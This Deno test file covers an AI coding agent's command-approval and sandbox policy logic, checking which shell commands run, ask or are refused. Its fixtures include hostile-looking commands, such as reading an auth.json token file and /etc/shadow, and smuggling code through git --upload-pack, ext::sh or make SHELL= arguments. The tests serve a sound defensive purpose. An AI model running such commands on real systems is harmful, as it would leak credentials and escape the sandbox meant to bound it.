/** The table of verdicts, and the laws they obey. */
import assert from "node:assert/strict";
import fc from "fast-check";
import type {
  Action,
  ApprovalPolicy,
  SandboxPolicy,
  Verdict,
} from "../../../core/protocol/policy.ts";
import {
  asksAfterDenial,
  decide,
  type DecideInput,
} from "../../../core/policy/decide.ts";
import { classifyCommand } from "../../../core/policy/classify.ts";
import { type RuleSet } from "../../../core/policy/rules.ts";
import {
  command,
  EXTERNAL,
  FULL,
  granular,
  input,
  patch,
  rulesOf,
  WORKSPACE,
} from "./support.ts";
import { READ_ONLY } from "../../support/settings.ts";

/** `run`, `run!` (no sandbox), `ask`, `ask!` or `refuse`. */
function verdict(action: Action, more: Partial<DecideInput> = {}): string {
  const result = decide(input(action, more));
  if (result.type === "refuse") return "refuse";
  return result.type + (result.sandboxed ? "" : "!");
}

const APPROVALS: readonly ApprovalPolicy[] = [
  "untrusted",
  "on-failure",
  "on-request",
  "never",
  granular(true, true),
  granular(false, true),
  granular(true, false),
  granular(false, false),
];
const SANDBOXES: readonly SandboxPolicy[] = [
  READ_ONLY,
  WORKSPACE,
  FULL,
  EXTERNAL,
];

Deno.test("decide() follows the table of approval policies", () => {
  const escalated = { escalated: true };
  const table: [Action, ...string[]][] = [
    //                               untrusted on-failure on-request never  gran.    silent
    [command("ls"), "run", "run", "run", "run", "run", "run"],
    [command(["ls"]), "run", "run", "run", "run", "run", "run"],
    [command("npm test"), "ask", "run", "run", "run", "run", "run"],
    [command("ls > x"), "ask", "run", "run", "run", "run", "run"],
    [command("ls && npm test"), "ask", "run", "run", "run", "run", "run"],
    [command("rm -rf x"), "ask", "ask", "ask", "refuse", "ask", "refuse"],
    [
      command("ls; $(rm -rf x)"),
      "ask",
      "ask",
      "ask",
      "refuse",
      "ask",
      "refuse",
    ],
    [
      command("ls", escalated),
      "ask!",
      "refuse",
      "ask!",
      "refuse",
      "ask!",
      "refuse",
    ],
    [
      command("x > y", escalated),
      "ask!",
      "refuse",
      "ask!",
      "refuse",
      "ask!",
      "refuse",
    ],
    [patch("/ws/a"), "ask", "run", "run", "run", "run", "run"],
    [
      patch("/ws/a", "/etc/x"),
      "ask!",
      "ask!",
      "ask!",
      "refuse",
      "ask!",
      "refuse",
    ],
    [
      patch("/ws/.git/config"),
      "ask!",
      "ask!",
      "ask!",
      "refuse",
      "ask!",
      "refuse",
    ],
  ];
  const policies: ApprovalPolicy[] = [
    "untrusted",
    "on-failure",
    "on-request",
    "never",
    granular(true, true),
    granular(false, true),
  ];
  for (const [action, ...expected] of table) {
    assert.deepEqual(
      policies.map((approval) => verdict(action, { approval })),
      expected,
      JSON.stringify(action),
    );
  }
});

Deno.test("decide() runs plainly where there is no sandbox of ours, and escalation is moot", () => {
  for (const sandbox of [FULL, EXTERNAL]) {
    for (const approval of ["on-request", "never", "on-failure"] as const) {
      assert.equal(verdict(command("npm test"), { sandbox, approval }), "run!");
      assert.equal(
        verdict(command("npm test", { escalated: true }), {
          sandbox,
          approval,
        }),
        "run!",
      );
      assert.equal(verdict(patch("/etc/x"), { sandbox, approval }), "run!");
    }
    assert.equal(
      verdict(command("npm test"), { sandbox, approval: "untrusted" }),
      "ask!",
    );
    const clean = command("rm -rf dist && npm run build");
    for (const approval of ["on-request", "never"] as const) {
      assert.equal(verdict(clean, { sandbox, approval }), "run!");
    }
    assert.equal(verdict(clean, { sandbox, approval: "untrusted" }), "ask!");
  }
  assert.equal(verdict(patch("/ws/a"), { sandbox: READ_ONLY }), "ask!");
  assert.equal(
    verdict(patch("/ws/a"), { sandbox: READ_ONLY, approval: "never" }),
    "refuse",
  );
});

Deno.test("decide() leaves the sandbox only when a rule allows every part", () => {
  const rules = rulesOf(
    `prefix_rule(pattern=["npm"])\nprefix_rule(pattern=["git", "push"])`,
  );
  for (
    const script of [
      "npm test",
      "npm a && git push",
      "cd /ws && cd . && CI=1 timeout 5 npm test",
      "npm <<'E'\nE",
      "npm test 2>&1 | tail -20",
      "npm test >/dev/null; echo done",
      "# first\nset -e\ncd /ws\ntime npm test \\\n  --x\ngit push | grep -v '^remote'",
    ]
  ) {
    assert.equal(verdict(command(script), { rules }), "run!", script);
    assert.equal(
      verdict(command(script, { escalated: true }), {
        rules,
        approval: "never",
      }),
      "run!",
      script,
    );
  }
  for (
    const script of [
      "npm test && ls",
      "npm test; cat /home/u/.codex/auth.json",
      "npm test | tee x",
      "npm test | grep -f /etc/shadow",
      "cd x && npm test",
      "cd .. && npm test",
      "cd x; npm test",
      "npm --prefix /other test",
      "npm test --script-shell=/tmp/x",
      "git push --receive-pack=/tmp/x origin",
      "git push --receive-p /tmp/x",
      "git push --exec /tmp/x",
      "git push /other main",
      "git push ext::sh origin",
      "git push git@evil:x main",
      "npm test; cd x",
      "npm test > x",
      "npm $(id)",
      "PATH=x npm test",
      "(npm test)",
      "./npm test",
      "/tmp/npm x",
      "npm test &",
    ]
  ) {
    assert.equal(verdict(command(script), { rules }), "run", script);
  }
  assert.equal(
    verdict(command(["npm", "test"]), { rules, approval: "untrusted" }),
    "run!",
  );
  assert.equal(verdict(command(["bash", "-c", "npm", "x"]), { rules }), "run");
  assert.equal(verdict(command([]), { rules }), "run");
});

Deno.test("decide() lets a rule hold in the workspace alone, and for no argument that leads out", () => {
  const rules = rulesOf(
    ["git", "make", "npm", "cargo", "docker"].map((name) =>
      `prefix_rule(pattern=["${name}"])\n`
    ).join(""),
  );
  const cases: Record<string, string> = {
    "git commit -am x": "run!",
    "git push -u origin main": "run!",
    "git -C /other commit": "run",
    "git -C/other commit": "run",
    "git --git-dir=/x commit": "run",
    "git --git-d /x commit": "run",
    "git --work-tree /x commit": "run",
    "git -c core.sshCommand=x fetch": "run",
    "git -ccore.pager=x log": "run",
    "git --config-env=a=b fetch": "run",
    "git fetch --upload-pack=x": "run",
    "git fetch --upload x": "run",
    "git fetch https://evil/x": "run",
    "git clone -u x y": "run",
    "git rebase -x evil HEAD~1": "run",
    "git grep -Oevil x": "run",
    "git diff --ext-diff": "run",
    "git log --output=x": "run",
    "make -C /other": "run",
    "make -sC /other": "run",
    "make -j 8": "run!",
    "make SHELL=/tmp/x": "run",
    "make --eval=x": "run",
    "make --ev=x": "run",
    "git push --ex=x": "run",
    "git fetch --depth 1 ext::x": "run",
    "git fetch -j 4 /x": "run",
    "git push -o x https://evil": "run",
    "git push origin HEAD:refs/heads/x": "run!",
    "git fetch --all --prune": "run!",
    "npm test": "run!",
    "npm --prefix=/x test": "run",
    "npm install -g x": "run",
    "cargo test --manifest-path /x": "run",
    "cargo test --config x": "run",
    "cargo test --lib": "run!",
    "docker -H tcp://x ps": "run",
  };
  for (const [script, expected] of Object.entries(cases)) {
    assert.equal(verdict(command(script), { rules }), expected, script);
    const elsewhere = command(script, { cwd: "/ws/sub" });
    assert.equal(verdict(elsewhere, { rules }), "run", script);
  }
  // What the rule itself names is covered.
  const named = rulesOf(`prefix_rule(pattern=["git", "-C", "/other", "push"])`);
  assert.equal(
    verdict(command("git -C /other push"), { rules: named }),
    "run!",
  );
});

Deno.test("decide() keeps the sandbox where a rule opens a part of it", () => {
  const rules = rulesOf(
    `prefix_rule(pattern=["npm", "ci"], sandbox=["network"])
prefix_rule(pattern=["cargo"], sandbox=["network", "~/.cargo/registry"])
prefix_rule(pattern=["just"], sandbox=[])
prefix_rule(pattern=["git", "push"])`,
  );
  const opened = (
    script: string,
    more: Partial<DecideInput> = {},
  ): unknown => {
    const result = decide(
      input(command(script, { escalated: more.approval !== "untrusted" }), {
        rules,
        ...more,
      }),
    );
    return result.type === "run"
      ? [result.sandboxed, result.opens]
      : result.type;
  };
  assert.deepEqual(opened("npm ci"), [true, ["network"]]);
  assert.deepEqual(opened("npm ci 2>&1 | tail -5; ls -l"), [true, ["network"]]);
  assert.deepEqual(opened("cd pkg && npm ci"), [true, ["network"]]);
  assert.deepEqual(opened("npm ci && cargo build"), [true, [
    "network",
    "/home/u/.cargo/registry",
  ]]);
  assert.deepEqual(opened("just x", { approval: "untrusted" }), [
    true,
    undefined,
  ]);
  assert.deepEqual(opened("npm ci && git push"), "ask");
  assert.deepEqual(opened("cd /other && npm ci"), "ask");
  assert.deepEqual(opened("npm ci", { sandbox: FULL }), [false, undefined]);
  assert.deepEqual(opened("npm ci", { sandbox: READ_ONLY }), [true, [
    "network",
  ]]);
  assert.deepEqual(opened("cargo build", { sandbox: READ_ONLY }), "ask");
});

Deno.test("decide() obeys asking and forbidding rules, wherever they are hidden", () => {
  const forbid = rulesOf(
    `prefix_rule(pattern=["git", "push"], decision="forbidden", justification="CI does")`,
  );
  const ask = rulesOf(
    `prefix_rule(pattern=["git", "push"], decision="prompt")`,
  );
  const scripts = [
    "git push",
    "ls && git push",
    "git push > log",
    "echo $(git push)",
    "timeout 5 git push",
    "sudo git push",
    "bash -c 'git push'",
    "(git push)",
    "PATH=x git push",
    "/x/git push",
    "if true; then git push; fi",
    "bash <<'E'\ngit push\nE",
  ];
  for (const script of scripts) {
    assert.equal(verdict(command(script), { rules: forbid }), "refuse", script);
    assert.equal(
      verdict(command(script), { rules: forbid, sandbox: FULL }),
      "refuse",
      script,
    );
    assert.equal(verdict(command(script), { rules: ask }), "ask", script);
    assert.equal(
      verdict(command(script), { rules: ask, approval: "never" }),
      "refuse",
      script,
    );
    assert.equal(
      verdict(command(script), { rules: ask, approval: granular(true, false) }),
      "refuse",
      script,
    );
    assert.equal(
      verdict(command(script), { rules: ask, approval: granular(false, true) }),
      "ask",
      script,
    );
  }
  assert.equal(verdict(command("git pull"), { rules: forbid }), "run");
  assert.equal(
    verdict(command("git push"), {
      rules: rulesOf(
        `prefix_rule(pattern=["git"])\nprefix_rule(pattern=["git", "push"], decision="prompt")`,
      ),
    }),
    "ask",
  );
});

Deno.test("decide() obeys rules about what is folded away", () => {
  for (const name of ["cd", "timeout", "env"]) {
    const rules = rulesOf(
      `prefix_rule(pattern=["${name}"], decision="forbidden")`,
    );
    const script = `cd x && timeout 5 env CI=1 ls`;
    assert.equal(verdict(command(script), { rules }), "refuse", name);
    const argv = ["env", "CI=1", "timeout", "5", "bash", "-c", "cd x && ls"];
    assert.equal(verdict(command(argv), { rules }), "refuse", name);
  }
});

Deno.test("decide() names the policy or the rule in its reasons", () => {
  const reason = (one: DecideInput): string => {
    const result = decide(one);
    return result.type === "run" ? "" : result.reason;
  };
  assert.match(
    reason(input(command("ls", { escalated: true }), { approval: "never" })),
    /approval policy is "never"/,
  );
  assert.match(
    reason(
      input(command("ls", { escalated: true }), { approval: "on-failure" }),
    ),
    /approval policy is "on-failure"/,
  );
  assert.match(
    reason(input(command("rm -rf x"), { approval: "never" })),
    /"rm -rf x" deletes without asking back, and the approval policy "never"/,
  );
  assert.match(
    reason(input(command("rm -rf x"), { approval: granular(false, true) })),
    /granular approval policy has sandbox_approval = false/,
  );
  assert.match(
    reason(input(patch("/etc/x"), { approval: "never", sandbox: READ_ONLY })),
    /read-only sandbox does not allow writing to \/etc\/x/,
  );
  assert.match(
    reason(input(command("x", { escalated: true, justification: "May I?" }))),
    /outside the sandbox: May I\?/,
  );
  const rules = rulesOf(
    `prefix_rule(pattern=["git"], decision="forbidden", justification="Use jj")`,
  );
  assert.equal(
    reason(input(command("git x"), { rules })),
    'The rule "git" (/home/u/r.rules:1) forbids it: Use jj',
  );
});

Deno.test("asksAfterDenial() offers a retry where the policy brings failures to the person", () => {
  assert.deepEqual(APPROVALS.map(asksAfterDenial), [
    true,
    true,
    false,
    false,
    true,
    false,
    true,
    false,
  ]);
});

Deno.test("decide() is total", () => {
  fc.assert(
    fc.property(arbitraryInput(), (one) => {
      assert.ok(["run", "ask", "refuse"].includes(decide(one).type));
    }),
    { numRuns: 1_000 },
  );
});

Deno.test("decide() never allows more under a stricter approval policy", () => {
  const pairs: [strict: ApprovalPolicy, loose: ApprovalPolicy][] = [
    ["untrusted", "on-request"],
    ["never", "on-request"],
    ["on-failure", "on-request"],
    ["never", "on-failure"],
    [granular(true, true), "on-request"],
    [granular(false, true), granular(true, true)],
    [granular(true, false), granular(true, true)],
    [granular(false, false), granular(false, true)],
    ["never", granular(false, false)],
  ];
  fc.assert(
    fc.property(
      arbitraryInput(),
      fc.constantFrom(...pairs),
      (one, [strict, loose]) => {
        assertNotLooser(
          decide({ ...one, approval: strict }),
          decide({ ...one, approval: loose }),
        );
      },
    ),
    { numRuns: 2_000 },
  );
});

Deno.test("decide() never allows more under a stricter sandbox policy", () => {
  const pairs: [strict: SandboxPolicy, loose: SandboxPolicy][] = [
    [READ_ONLY, WORKSPACE],
    [WORKSPACE, FULL],
    [READ_ONLY, EXTERNAL],
    [EXTERNAL, FULL],
    [{ ...WORKSPACE, writableRoots: [] } as SandboxPolicy, WORKSPACE],
  ];
  fc.assert(
    fc.property(
      arbitraryInput(),
      fc.constantFrom(...pairs),
      (one, [strict, loose]) => {
        assertNotLooser(
          decide({ ...one, sandbox: strict }),
          decide({ ...one, sandbox: loose }),
        );
      },
    ),
    { numRuns: 2_000 },
  );
});

Deno.test("decide() never allows more because a rule asks or forbids", () => {
  const stricter = fc.constantFrom(
    ...["npm", "git", "rm", "bash", "ls"].flatMap((name) =>
      ["prompt", "forbidden"].map((decision) =>
        `prefix_rule(pattern=["${name}"], decision="${decision}")`
      )
    ),
  );
  fc.assert(
    fc.property(arbitraryInput(), stricter, (one, text) => {
      const rules: RuleSet = {
        ...one.rules,
        rules: [...one.rules.rules, ...rulesOf(text).rules],
      };
      assertNotLooser(decide({ ...one, rules }), decide(one));
    }),
    { numRuns: 2_000 },
  );
});

Deno.test("decide() never allows a script more than each of its parts", () => {
  fc.assert(
    fc.property(
      arbitraryInput(),
      fc.array(arbitrarySimple(), { minLength: 2, maxLength: 3 }),
      fc.constantFrom(" && ", "; ", " | ", " & ", "\n"),
      (one, parts, joiner) => {
        const whole = decide({ ...one, action: command(parts.join(joiner)) });
        for (const part of parts) {
          // `cd sub && x` is x in another folder, which the model may choose anyway.
          if (part === "cd sub") continue;
          assertNotLooser(
            whole,
            decide({ ...one, action: command(part) }),
          );
        }
      },
    ),
    { numRuns: 2_000 },
  );
});

Deno.test("judgeCommand() says of each part what is known about it", () => {
  const rules = rulesOf(
    `prefix_rule(pattern=["npm"])\nprefix_rule(pattern=["git"], decision="prompt")`,
  );
  const classified = classifyCommand(
    ["bash", "-lc", "ls | CI=1 npm x && rm -f y $(git z)"],
    "/ws",
    { rules, workspace: "/ws" },
  );
  assert.equal(classified.kind, "opaque");
  assert.equal(classified.hidden?.decision, "prompt");
  const plain = classifyCommand(
    ["bash", "-lc", "ls | CI=1 npm x && rm -f y"],
    "/ws",
    { rules, workspace: "/ws" },
  );
  assert.deepEqual(
    plain.segments.map((
      { core, safe, rule, danger },
    ) => [core.join(" "), safe, rule?.decision, danger !== undefined]),
    [
      ["ls", true, undefined, false],
      ["npm x", false, "allow", false],
      ["rm -f y", false, undefined, true],
    ],
  );
});

// How much a verdict lets happen: nothing, what a person agrees to, in the box, anything.
function rank(verdict: Verdict): number {
  if (verdict.type === "refuse") return 0;
  if (verdict.type === "ask") return 1;
  return verdict.sandboxed ? 2 : 3;
}

function assertNotLooser(strict: Verdict, loose: Verdict): void {
  assert.ok(
    rank(strict) <= rank(loose),
    `${JSON.stringify(strict)} is looser than ${JSON.stringify(loose)}`,
  );
}

function arbitrarySimple(): fc.Arbitrary<string> {
  return fc.constantFrom(
    "ls",
    "npm test",
    "git push",
    "rm -rf x",
    "cat a",
    "cd sub",
    "timeout 5 npm x",
    "CI=1 git status",
    "echo $(git push)",
    "npm x > y",
    "bash -c 'rm -f z'",
  );
}

function arbitraryInput(): fc.Arbitrary<DecideInput> {
  const argv = fc.oneof(
    fc.array(
      fc.constantFrom(
        "bash",
        "-lc",
        "-c",
        "rm",
        "-rf",
        "git",
        "push",
        "sudo",
        "env",
        "A=b",
        "timeout",
        "5",
        "npm",
        "",
        "ls > x",
        "x | y",
        "/bin/ls",
      ),
      { maxLength: 5 },
    ),
    fc.array(arbitrarySimple(), { minLength: 1, maxLength: 3 }).map((
      all,
    ) => ["bash", "-lc", all.join(" && ")]),
    fc.string({ maxLength: 12 }).map((text) => ["bash", "-c", text]),
  );
  const action: fc.Arbitrary<Action> = fc.oneof(
    fc.record({ argv, escalated: fc.boolean() }).map(({ argv, escalated }) =>
      command(argv, { escalated })
    ),
    fc.array(
      fc.constantFrom(
        "/ws/a",
        "/etc/x",
        "/ws/.git/config",
        "/tmp/x",
        "/extra/y",
      ),
      { maxLength: 3 },
    ).map((paths) => patch(...paths)),
  );
  const rule = fc.tuple(
    fc.constantFrom(`["npm"]`, `["git", "push"]`, `["ls"]`, `["rm"]`, `["cd"]`),
    fc.constantFrom("allow", "prompt", "forbidden"),
  )
    .map(([pattern, decision]) =>
      `prefix_rule(pattern=${pattern}, decision="${decision}")`
    );
  return fc.record({
    action,
    approval: fc.constantFrom(...APPROVALS),
    sandbox: fc.constantFrom(...SANDBOXES),
    rules: fc.array(rule, { maxLength: 3 }).map((lines) =>
      rulesOf(lines.join("\n"))
    ),
  }).map(({ action, ...more }) => input(action, more));
}

Deno.test("a rule for one host keeps commands from the network, which opens to all hosts", () => {
  const open: SandboxPolicy = { ...WORKSPACE, networkAccess: true };
  const rules = (decision: string): RuleSet =>
    rulesOf(`network_rule("x.com", "https", "${decision}")`);
  const of = (decision: string, sandbox: SandboxPolicy): string =>
    verdict(command("curl x.com"), { rules: rules(decision), sandbox });
  assert.deepEqual(
    ["allow", "prompt", "forbidden", "deny"].map((decision) => [
      of(decision, WORKSPACE),
      of(decision, open),
      of(decision, FULL),
    ]),
    [
      ["run", "run", "run!"],
      ["run", "ask", "ask!"],
      ["run", "refuse", "refuse"],
      ["run", "refuse", "refuse"],
    ],
  );
});

Deno.test("decide() lets no rule answer for what is typed into a program outside the sandbox", () => {
  const rules = rulesOf(
    'prefix_rule(pattern=["npm", "install"], decision="allow")\n' +
      'prefix_rule(pattern=["git", "push"], decision="forbidden")',
  );
  const typed = { escalated: true, session: 1000 };
  const more = { approval: "on-request", rules } as const;
  assert.equal(
    verdict(command("npm install", { escalated: true }), more),
    "run!",
  );
  assert.equal(verdict(command("npm install", typed), more), "ask!");
  assert.equal(verdict(command("git push", typed), more), "refuse");
  const never = { ...more, approval: "never" } as const;
  assert.equal(verdict(command("npm install", typed), never), "refuse");
});
